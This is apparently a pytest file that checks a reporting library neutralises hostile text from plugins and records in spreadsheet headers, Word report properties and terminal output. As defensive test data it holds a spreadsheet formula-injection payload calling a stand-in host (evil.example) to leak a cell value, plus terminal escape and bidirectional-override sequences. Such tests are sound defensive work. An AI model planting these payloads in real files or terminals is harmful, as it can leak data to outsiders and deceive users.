"""Text a plugin or a record supplies, in the places the first screens missed (attacker 04,
06, 08): the results workbook's header row, the Word report's properties, the deadline's
calendar line on the terminal."""

from __future__ import annotations

from datetime import date
from pathlib import Path

import attrs
import pytest

openpyxl = pytest.importorskip("openpyxl")

from softenv_core import Award, PluginInfo, Rule, hookimpl, monitoring_report  # noqa: E402
from softenv_core.analyses.assessment import assess  # noqa: E402
from softenv_core.model.periods import Month  # noqa: E402
from softenv_core.render.assessment import explain_deadline  # noqa: E402
from softenv_core.render.docx_report import write_report_docx  # noqa: E402
from softenv_core.render.xlsx_results import write_results_xlsx  # noqa: E402
from softenv_core.rules.registry import get_plugin_manager  # noqa: E402
from softenv_core.testing.builders import small_dataset  # noqa: E402
from softenv_core.workdays.calendar import CalendarSource, WorkCalendar  # noqa: E402

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"点击")'


def _titled(title: str):  # type: ignore[no-untyped-def]
    class P:
        @hookimpl
        def softenv_plugin_info(self):  # type: ignore[no-untyped-def]
            return PluginInfo(county="379902", title="甲区规则", reference="测试")

        @hookimpl
        def softenv_extra_point_rules(self, year, params):  # type: ignore[no-untyped-def]
            rule = Rule(
                id="jia.x",
                label="jia.x",
                title_zh=title,
                title_en=title,
                reference="测试",
                score=lambda ctx: Award(1, "加分"),
                max_points=1,
                effective_from=date(2024, 1, 1),
            )
            return [rule]

    pm = get_plugin_manager(autoload=False)
    pm.register(P(), name="softenv-county-jia")
    return pm


@pytest.mark.parametrize("title", [FORMULA, "加分\x1b[2J项"], ids=["formula", "escape"])
def test_a_plugin_rule_title_heads_its_column_as_text(tmp_path: Path, title: str) -> None:
    result = assess(small_dataset(2025), 2025, _titled(title), audience="city")
    write_results_xlsx(result, None, tmp_path / "r.xlsx")
    header = list(openpyxl.load_workbook(tmp_path / "r.xlsx")["监测点"][1])
    assert all(c.data_type != "f" for c in header)
    shown = [c.value for c in header if (c.value and "加分" in str(c.value)) or c.value == FORMULA]
    assert shown and "\x1b" not in str(shown)


def test_a_control_character_in_the_offices_name_does_not_stop_the_word_report(tmp_path: Path) -> None:
    pytest.importorskip("docx")
    ds = small_dataset(2025)
    ds = attrs.evolve(ds, city=attrs.evolve(ds.city, liaison_office="市经贸委\x0b"))
    write_report_docx(monitoring_report(ds, Month(2025, 3), audience="city"), tmp_path / "r.docx")
    import docx

    assert "\x0b" not in docx.Document(str(tmp_path / "r.docx")).core_properties.author


def test_a_calendar_reference_reaches_the_terminal_inert() -> None:
    from softenv_core import monthly_deadline

    d = monthly_deadline(WorkCalendar(), Month(2025, 3), 5, rule_id="x", reference="y")
    hostile = attrs.evolve(d, calendar_sources=(CalendarSource("arrangement 2025 \x1b]0;pwned\x07\u202e", ""),))
    text = explain_deadline(hostile, "379902", "2025-03")
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert "arrangement 2025" in text
